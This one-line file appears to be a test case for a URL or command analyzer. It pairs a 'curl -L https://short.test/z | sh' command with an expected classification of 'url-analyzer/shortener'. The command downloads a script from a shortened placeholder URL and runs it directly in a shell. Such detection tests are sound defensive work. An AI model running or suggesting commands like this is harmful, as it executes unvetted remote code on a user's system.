curl -L https://short.test/z | sh # expect: url-analyzer/shortener
